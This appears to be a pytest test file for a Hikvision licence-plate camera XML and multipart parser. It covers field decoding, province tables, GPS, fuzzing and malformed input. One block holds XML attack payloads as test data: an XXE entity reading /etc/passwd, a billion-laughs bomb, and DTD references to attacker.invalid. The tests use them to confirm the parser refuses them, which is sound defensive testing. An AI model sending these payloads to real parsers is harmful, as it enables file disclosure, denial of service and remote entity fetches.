"""Hikvision ANPR alerts: real XML from cameras, multipart bodies, XXE, and fuzzing."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safetyzone.adapters.errors import NOT_A_READ, AdapterError
from safetyzone.adapters.lpr.hikvision import (
    STATE_IDS,
    decode_hikvision,
    read_hikvision,
    split_multipart,
)
from safetyzone.adapters.lpr.thai_plate import PROVINCES, find_province
from safetyzone.core.events import PlateIn
from support.event_checks import assert_valid_event

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "lpr"
RECEIVED = datetime(2026, 8, 1, tzinfo=UTC)
WINDOW = {"not_before": datetime(2000, 1, 1, tzinfo=UTC),
          "not_after": RECEIVED + timedelta(days=1)}
FUZZ = settings(max_examples=150, deadline=None,
                suppress_health_check=[HealthCheck.too_slow])
READS = sorted(p.name for p in FIXTURES.glob("hikvision_*.xml") if "heartbeat" not in p.name)


def xml(name: str) -> bytes:
    return FIXTURES.joinpath(name).read_bytes()


def decode(data: bytes) -> PlateIn:
    event = decode_hikvision(data, received_at=RECEIVED)
    assert_valid_event(event, **WINDOW)
    return event


def refused_or_valid(data: bytes) -> None:
    try:
        decode(data)
    except AdapterError as err:
        refusal = err
    else:
        return
    assert refusal.detail


@pytest.mark.parametrize("name", READS)
def test_every_real_alert_decodes_to_a_valid_event(name: str) -> None:
    assert decode(xml(name)).payload.plate


# fixture: plate, canonical, province, confidence, direction, event time (UTC), image_ref
EXPECTED = {
    "hikvision_thai_isapi.xml": (
        "8กผ444", "8กผ444", "TH-10", 97, "reverse", "2025-11-12T03:44:56.365000+00:00",
        "FU64608246132164921310"),
    "hikvision_thai_ds_tcg405e.xml": (
        "1กข1234", "1กข1234", "TH-10", 98, "forward", "2024-05-07T10:48:03.847000+00:00",
        "licensePlatePicture.jpg"),
    "hikvision_turkey_hikvision_ns.xml": (
        "38AAP084", "38AAP084", None, 98, "forward", "2026-05-21T08:10:06+00:00",
        "2026052116100697700VdqwBMgtNT4wY"),
    "hikvision_croatia_hikvision_ns.xml": (
        "ZG6140G", "ZG6140G", None, 100, "forward", "2023-11-02T20:10:32+00:00",
        "2023110221103257100GG2XE4w2NmFEo"),
    "hikvision_poland_deepinview.xml": (
        "WX1234A", "WX1234A", None, 92, "reverse", "2026-07-05T19:44:40+00:00", None),
}


@pytest.mark.parametrize(("name", "expected"), sorted(EXPECTED.items()))
def test_fixture_fields(name: str, expected: tuple[object, ...]) -> None:
    event = decode(xml(name))
    p = event.payload
    actual = (p.plate, p.plate_normalized, p.province, p.confidence, p.direction,
              event.event_time.isoformat(), p.image_ref)
    assert actual == expected


def test_camera_identity_vehicle_and_pictures_come_back_too() -> None:
    read = read_hikvision(xml("hikvision_thai_isapi.xml"), received_at=RECEIVED)
    assert read.event.device_event_id == "hikvision:a1301cd8-1dd1-11b2-9c0b-e8ad94177b80"
    assert read.camera.mac_address == "e8:a0:ed:2c:e6:24"
    assert read.camera.ip_address == "192.168.1.251"
    assert read.camera.channel_id == "1"
    assert read.camera.device_uuid == "DS-TCG406-E 20241223AIFU6460824"
    assert read.country == "64"
    assert [(p.type, p.part_name) for p in read.pictures] == [
        ("licensePlatePicture", "FU64608246132164921310"),
        ("detectionPicture", "FU64608246132164944210"),
        ("featurePicture", "FU64608246132164954816"),
    ]
    turkey = read_hikvision(xml("hikvision_turkey_hikvision_ns.xml"), received_at=RECEIVED)
    assert turkey.vehicle == {"type": "bus", "color": "green", "logo": "1707"}
    assert turkey.event.location is None  # DeviceGPSInfo all zero: never configured


def test_heartbeats_and_empty_reads_are_flagged_not_a_read() -> None:
    with pytest.raises(AdapterError, match="'videoloss' is not an ANPR read") as err:
        decode(xml("hikvision_heartbeat_videoloss.xml"))
    assert err.value.code == NOT_A_READ
    unread = xml("hikvision_croatia_hikvision_ns.xml").replace(
        b"<licensePlate>ZG6140G</licensePlate>", b"<licensePlate>unknown</licensePlate>"
    ).replace(b"<originalLicensePlate>ZG6140G", b"<originalLicensePlate>unknown")
    with pytest.raises(AdapterError, match="read no plate") as err:
        decode(unread)
    assert err.value.code == NOT_A_READ


def test_both_namespaces_and_none_decode_the_same() -> None:
    hik = xml("hikvision_croatia_hikvision_ns.xml")
    isapi = hik.replace(b"http://www.hikvision.com/ver20/XMLSchema",
                        b"http://www.isapi.org/ver20/XMLSchema")
    bare = hik.replace(b' xmlns="http://www.hikvision.com/ver20/XMLSchema"', b"")
    assert decode(hik) == decode(isapi) == decode(bare)


def test_naive_datetime_is_camera_local_time() -> None:
    data = xml("hikvision_croatia_hikvision_ns.xml").replace(b"+01:00</dateTime>", b"</dateTime>")
    assert decode(data).event_time == datetime(2023, 11, 2, 14, 10, 32, tzinfo=UTC)  # Bangkok
    utc = decode_hikvision(data, received_at=RECEIVED, naive_tz=UTC)
    assert utc.event_time == datetime(2023, 11, 2, 21, 10, 32, tzinfo=UTC)
    no_time = data.replace(b"<dateTime>2023-11-02T21:10:32</dateTime>", b"")
    assert decode(no_time).event_time == RECEIVED


def test_without_uuid_the_event_id_is_camera_plate_and_time() -> None:
    data = xml("hikvision_croatia_hikvision_ns.xml").replace(
        b"<UUID>2023110221103259100tVVeTdMnhzKm8</UUID>", b"")
    first = decode(data)
    assert first.device_event_id == "hikvision:c4:2f:90:a7:b5:d1:ZG6140G:1698955832000"
    assert decode_hikvision(data, received_at=RECEIVED + timedelta(hours=1)) == first


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ((b"<tailandStateID>1</tailandStateID>", b"<tailandStateID>14</tailandStateID>"),
         "TH-50"),
        ((b"<tailandStateID>1</tailandStateID>", b"<tailandStateID>78</tailandStateID>"),
         "TH-95"),
        ((b"<tailandStateID>1</tailandStateID>", b"<tailandStateID>0</tailandStateID>"), None),
        ((b"<tailandStateID>1</tailandStateID>", b"<tailandStateID>99</tailandStateID>"), None),
        ((b"<tailandStateID>1</tailandStateID>", b"<tailandStateID>\xc2\xb2</tailandStateID>"),
         None),
        ((b"<line>1</line>", b"<plateProvince>\xe0\xb8\xa0\xe0\xb8\xb9\xe0\xb9\x80\xe0\xb8\x81"
                             b"\xe0\xb9\x87\xe0\xb8\x95</plateProvince>"), "TH-83"),
        ((b"<line>1</line>", b"<province>Chiang Mai</province>"), "TH-50"),
        ((b"<tailandStateID>1</tailandStateID>", b"<province>42</province>"), "TH-83"),
    ],
)
def test_thai_province_fields(change: tuple[bytes, bytes], code: str | None) -> None:
    data = xml("hikvision_thai_ds_tcg405e.xml").replace(*change)
    assert decode(data).payload.province == code


def test_state_id_table_matches_the_province_table() -> None:
    codes = [find_province(name) for name in STATE_IDS[1:]]
    assert all(codes), "every Hikvision state number names a province"
    assert {c.code for c in codes[:77] if c} == {p.code for p in PROVINCES}
    assert codes[77] is not None and codes[77].code == "TH-95"  # 78: Betong, in Yala
    assert STATE_IDS[1] == "กรุงเทพมหานคร" and STATE_IDS[14] == "เชียงใหม่"


def test_camera_gps_becomes_the_location() -> None:
    data = xml("hikvision_turkey_hikvision_ns.xml")
    data = data.replace(b"<Longitude>\n<degree>0</degree>\n<minute>0</minute>\n"
                        b"<sec>0.000000</sec>", b"<Longitude>\n<degree>100</degree>\n"
                        b"<minute>30</minute>\n<sec>6.5</sec>")
    data = data.replace(b"<Latitude>\n<degree>0</degree>\n<minute>0</minute>\n"
                        b"<sec>0.000000</sec>", b"<Latitude>\n<degree>13</degree>\n"
                        b"<minute>45</minute>\n<sec>2.9</sec>")
    location = decode(data).location
    assert location is not None
    assert location.lat == pytest.approx(13.750806, abs=1e-6)
    assert location.lon == pytest.approx(100.501806, abs=1e-6)
    broken = data.replace(b"<degree>13</degree>", b"<degree>north</degree>")
    assert decode(broken).location is None  # a broken GPS block never costs the plate


XXE_FILE = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b"<EventNotificationAlert><eventType>ANPR</eventType><ANPR>"
            b"<licensePlate>&xxe;</licensePlate></ANPR></EventNotificationAlert>")
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "' % i + (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10 + b'">'
        for i in range(1, 10)
    )
    + b"]><EventNotificationAlert><eventType>ANPR</eventType><ANPR>"
    b"<licensePlate>&lol9;</licensePlate></ANPR></EventNotificationAlert>"
)
EXTERNAL_DTD = (b'<?xml version="1.0"?><!DOCTYPE EventNotificationAlert SYSTEM '
                b'"http://attacker.invalid/evil.dtd"><EventNotificationAlert/>')
PARAMETER_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM '
                    b'"http://attacker.invalid/p.dtd"> %p;]><EventNotificationAlert/>')


@pytest.mark.parametrize("attack", [XXE_FILE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_xxe_and_entity_bombs_are_refused(attack: bytes) -> None:
    with pytest.raises(AdapterError, match="refused as unsafe"):
        decode_hikvision(attack, received_at=RECEIVED)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not well-formed"),
        (b"<EventNotificationAlert>", "not well-formed"),
        (b'{"plate": "1"}', "not well-formed"),
        (b"<Other><eventType>ANPR</eventType></Other>", "root is 'Other'"),
        (b'<?xml version="1.0" encoding="x-klingon"?><a/>', "not well-formed"),
        (b"<EventNotificationAlert><eventType>ANPR</eventType></EventNotificationAlert>",
         "read no plate"),
        (b"<EventNotificationAlert><eventType>ANPR</eventType><ANPR><licensePlate>XY12"
         b"</licensePlate><confidenceLevel>NaN</confidenceLevel></ANPR>"
         b"</EventNotificationAlert>", "confidenceLevel must be a number"),
        (b"<EventNotificationAlert><eventType>ANPR</eventType><ANPR><licensePlate>XY12"
         b"</licensePlate><confidenceLevel>150</confidenceLevel></ANPR>"
         b"</EventNotificationAlert>", "confidence 150 is out of range"),
        (b"<EventNotificationAlert><eventType>ANPR</eventType><dateTime>yesterday</dateTime>"
         b"<ANPR><licensePlate>XY12</licensePlate></ANPR></EventNotificationAlert>",
         "not ISO 8601"),
        (b"<EventNotificationAlert><eventType>ANPR</eventType><dateTime>1970-01-01T00:00:00Z"
         b"</dateTime><ANPR><licensePlate>XY12</licensePlate></ANPR></EventNotificationAlert>",
         "not plausible"),
        (b"<EventNotificationAlert><eventType>ANPR</eventType><ANPR><licensePlate>!!</licensePlate>"
         b"</ANPR></EventNotificationAlert>", "not a Thai plate"),
        (b"<a>" * 1_100_000, "larger than"),
    ],
)
def test_garbage_is_refused_with_a_reason(data: bytes, reason: str) -> None:
    with pytest.raises(AdapterError, match=reason):
        decode_hikvision(data, received_at=RECEIVED)


# Multipart ----------------------------------------------------------------------------

JPEG = bytes(range(256)) * 3 + b"\r\n--not-the-boundary\r\n\xff\xd9"


def multipart(boundary: bytes, parts: list[tuple[bytes, bytes]]) -> bytes:
    """Parts as (header block, body), framed with CRLF as the RFC 7578 says."""
    out = b"".join(b"--" + boundary + b"\r\n" + head + b"\r\n\r\n" + body + b"\r\n"
                   for head, body in parts)
    return out + b"--" + boundary + b"--\r\n"


def test_split_multipart_in_the_layout_of_a_thai_camera() -> None:
    # Layout of the "ANPR Mock" that mirrors the camera (jirapat-tech/lpr-parking-anpr-mock):
    # anpr.xml, then one part per picture named by its pId.
    alert = xml("hikvision_thai_isapi.xml")
    body = multipart(b"----hik", [
        (b'Content-Disposition: form-data; name="anpr.xml"; filename="anpr.xml"\r\n'
         b"Content-Type: application/xml", alert),
        (b'Content-Disposition: form-data; name="FU64608246132164921310"; '
         b'filename="licensePlatePicture.jpg"\r\nContent-Type: image/jpeg', JPEG),
        (b'Content-Disposition: form-data; name="FU64608246132164944210"; '
         b'filename="detectionPicture.jpg"\r\nContent-Type: image/jpeg', JPEG[::-1]),
    ])
    found_xml, images = split_multipart(body, 'multipart/form-data; boundary="----hik"')
    assert found_xml == alert
    assert images == {"FU64608246132164921310": JPEG, "FU64608246132164944210": JPEG[::-1]}
    event = decode(found_xml)
    assert event.payload.image_ref in images


def test_split_multipart_in_the_layout_of_a_captured_post() -> None:
    # Part headers as captured from a camera (pastebin.com/raw/z5Bzjthh): Content-Length and
    # Content-ID inside the parts, a quoted charset, an empty picture.
    alert = xml("hikvision_croatia_hikvision_ns.xml")
    body = multipart(b"boundary", [
        (b'Content-Disposition: form-data; name="anpr.xml"; filename="anpr.xml"\r\n'
         b'Content-Type: text/xml; charset="UTF-8"\r\nContent-Length: %d' % len(alert), alert),
        (b'Content-Disposition: form-data; name="licensePlatePicture.jpg"; '
         b'filename="licensePlatePicture.jpg"\r\nContent-Type: image/pjpeg\r\n'
         b"Content-Length: 0\r\nContent-ID: licensePlatePicture", b""),
    ])
    found_xml, images = split_multipart(body, "multipart/form-data; boundary=boundary")
    assert found_xml == alert
    assert images == {"licensePlatePicture.jpg": b""}


def test_split_multipart_names_repeated_parts_apart() -> None:
    alert = xml("hikvision_poland_deepinview.xml")
    body = multipart(b"b", [
        (b'Content-Disposition: form-data; name="image_file"; filename="a.jpg"', b"A"),
        (b'Content-Disposition: form-data; name="xml_file"; filename="anpr.xml"', alert),
        (b'Content-Disposition: form-data; name="image_file"; filename="b.jpg"', b"B"),
        (b"Content-Type: image/jpeg", b"C"),
    ])
    found_xml, images = split_multipart(body, "multipart/form-data; boundary=b")
    assert found_xml == alert
    assert images == {"image_file": b"A", "image_file#2": b"B", "part3": b"C"}


def test_plain_xml_bodies_pass_through() -> None:
    alert = xml("hikvision_poland_deepinview.xml")
    assert split_multipart(alert, "application/xml; charset=utf-8") == (alert, {})
    assert split_multipart(alert, "text/xml") == (alert, {})


@pytest.mark.parametrize(
    ("body", "content_type", "reason"),
    [
        (b"{}", "application/json", "expected multipart/form-data or XML"),
        (b"", "", "expected multipart/form-data or XML"),
        (b"--b\r\n\r\nx\r\n--b--", "multipart/form-data", "no boundary"),
        (b"", "multipart/form-data; boundary=b", "no XML part"),
        (multipart(b"b", [(b"Content-Type: image/jpeg", JPEG)]),
         "multipart/form-data; boundary=b", "no XML part"),
        (b"garbage without any boundary", "multipart/form-data; boundary=b", "malformed"),
        (multipart(b"b", [(b"Content-Type: image/jpeg", b"x")] * 40),
         "multipart/form-data; boundary=b", "more than 32 parts"),
        (b"x", "multipart/form-data; boundary=" + "b" * 100, "malformed"),
    ],
)
def test_multipart_garbage_is_refused(body: bytes, content_type: str, reason: str) -> None:
    with pytest.raises(AdapterError, match=reason):
        split_multipart(body, content_type)


def test_truncated_multipart_keeps_only_whole_parts() -> None:
    alert = xml("hikvision_poland_deepinview.xml")
    body = multipart(b"b", [(b"Content-Type: application/xml", alert),
                            (b"Content-Type: image/jpeg", JPEG)])
    for end in range(0, len(body), 7):
        try:
            found_xml, images = split_multipart(body[:end], "multipart/form-data; boundary=b")
        except AdapterError:
            continue
        assert found_xml == alert
        assert all(data == JPEG for data in images.values())


@FUZZ
@given(st.binary(max_size=400))
def test_random_bytes_are_refused_or_valid(data: bytes) -> None:
    refused_or_valid(data)
    refused_or_valid(b"<EventNotificationAlert><eventType>ANPR</eventType>" + data)


@FUZZ
@given(st.binary(max_size=400), st.sampled_from([
    "multipart/form-data; boundary=b", "multipart/mixed; boundary=boundary", "text/xml",
    "multipart/form-data; boundary=", "multipart/form-data; boundary=\"", "x/y", ""]))
def test_random_multipart_is_refused_or_split(body: bytes, content_type: str) -> None:
    for data in (b"--b\r\n" + body, body):
        try:
            split_multipart(data, content_type)
        except AdapterError as err:
            assert isinstance(err.detail, str)  # noqa: PT017 - the contract is the type


TEXTS = st.text(max_size=20)


@FUZZ
@given(TEXTS, TEXTS, TEXTS, TEXTS, TEXTS)
def test_random_field_values_are_refused_or_valid(
    plate: str, confidence: str, when: str, state: str, direction: str
) -> None:
    from xml.sax.saxutils import escape

    values = [escape(v).encode("utf-8", "surrogatepass") for v in
              (plate, confidence, when, state, direction)]
    data = (b"<EventNotificationAlert><eventType>ANPR</eventType><dateTime>%s</dateTime>"
            b"<ANPR><licensePlate>%s</licensePlate><confidenceLevel>%s</confidenceLevel>"
            b"<tailandStateID>%s</tailandStateID><direction>%s</direction></ANPR>"
            b"</EventNotificationAlert>") % (values[2], values[0], values[1], values[3],
                                              values[4])
    refused_or_valid(data)


@pytest.mark.parametrize("name", READS)
def test_every_truncation_is_refused_or_valid(name: str) -> None:
    data = xml(name)
    for end in range(0, len(data), 3):
        refused_or_valid(data[:end])
